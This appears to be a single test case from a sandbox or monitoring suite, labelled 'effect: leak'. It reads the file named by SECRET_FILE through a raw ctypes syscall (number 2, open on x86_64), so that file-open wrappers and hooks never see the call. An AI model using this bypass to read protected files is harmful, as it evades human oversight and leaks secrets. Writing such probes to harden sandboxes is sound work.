"""
goal: open a file by the number of the call, past every wrapper
effect: leak
needs: x86_64
"""

import ctypes
import os

print(os.read(ctypes.CDLL(None).syscall(2, SECRET_FILE.encode(), 0), 100))
